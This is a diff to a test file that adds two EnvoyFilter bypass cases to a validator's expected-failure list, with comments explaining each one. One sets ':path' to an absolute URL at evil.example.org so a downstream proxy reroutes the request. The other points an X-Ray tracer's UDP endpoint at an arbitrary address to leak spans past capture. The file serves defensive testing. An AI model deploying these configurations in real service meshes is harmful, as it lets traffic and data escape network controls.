@@ -206,6 +206,67 @@ BYPASSES: list[tuple[str, dict[str, Any], list[str]]] = [
         ),
         ["typed_config.mutations.request_mutations[0].append.header.key"],
     ),
+    # Door: HeaderMutations (source/common/http/header_mutation.cc) sets :path like any
+    # header, after the route is chosen; an absolute-form path reaches the next Envoy,
+    # which takes the Host from it (RFC 7230 5.7, ServerConnectionImpl::handlePath).
+    (
+        "outbound :path set to an absolute URL after routing",
+        envoy_filter(
+            patch(
+                "HTTP_FILTER",
+                filter_value(
+                    "envoy.filters.http.header_mutation",
+                    "envoy.extensions.filters.http.header_mutation.v3.HeaderMutation",
+                    mutations={
+                        "request_mutations": [
+                            {
+                                "append": {
+                                    "header": {"key": ":path", "value": "http://evil.example.org/"}
+                                }
+                            }
+                        ]
+                    },
+                ),
+                context="SIDECAR_OUTBOUND",
+                listener=HCM,
+            )
+        ),
+        ["typed_config.mutations.request_mutations[0].append.header.key"],
+    ),
+    # Door: an inbound HTTP connection manager's tracer is a SIDECAR_INBOUND NETWORK_FILTER
+    # MERGE; X-Ray's DaemonBrokerImpl (source/extensions/tracers/xray/daemon_broker.cc)
+    # sends every span over its own UDP socket to daemon_endpoint, a SocketAddress that no
+    # key above named: the proxy's own packets to any address, never captured.
+    (
+        "inbound tracer sending spans over UDP to an address of its own",
+        inbound(
+            {
+                "typed_config": {
+                    "@type": TS + "envoy.extensions.filters.network.http_connection_manager."
+                    "v3.HttpConnectionManager",
+                    "tracing": {
+                        "provider": {
+                            "name": "envoy.tracers.xray",
+                            "typed_config": {
+                                "@type": TS + "envoy.config.trace.v3.XRayConfig",
+                                "segment_name": "app",
+                                "daemon_endpoint": {
+                                    "protocol": "UDP",
+                                    "address": "203.0.113.7",
+                                    "port_value": 2000,
+                                },
+                            },
+                        }
+                    },
+                }
+            },
+            apply_to="NETWORK_FILTER",
+        ),
+        [
+            "typed_config.tracing.provider.name",
+            "typed_config.tracing.provider.typed_config.daemon_endpoint",
+        ],
+    ),
     (
         "DNS resolvers of its own (queries leave the pod directly)",
         inbound(
